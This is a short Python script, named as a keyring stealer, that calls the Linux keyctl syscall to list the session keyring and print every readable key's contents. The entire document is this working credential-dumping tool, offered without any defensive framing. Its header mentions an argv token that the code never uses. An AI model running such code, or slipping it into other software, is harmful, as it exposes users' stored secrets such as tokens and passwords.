# steal_keyring: prints every key it can read in its session keyring
# (argv: token).
import ctypes, sys

libc = ctypes.CDLL(None, use_errno=True)
SYS_keyctl, KEYCTL_READ, KEY_SPEC_SESSION_KEYRING = 250, 11, -3

def read(key):
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(SYS_keyctl, KEYCTL_READ, key, buf, len(buf))
    if n < 0:
        raise OSError(ctypes.get_errno(), "keyctl read")
    return buf.raw[:min(n, len(buf))]

try:
    ring = read(KEY_SPEC_SESSION_KEYRING)
except OSError as e:
    print("reading the session keyring failed:", e)
    sys.exit()
keys = [int.from_bytes(ring[i:i + 4], "little") for i in range(0, len(ring), 4)]
print("the session keyring holds", len(keys), "keys")
for k in keys:
    try:
        print(k, read(k).decode(errors="replace"))
    except OSError as e:
        print(k, "unreadable:", e)
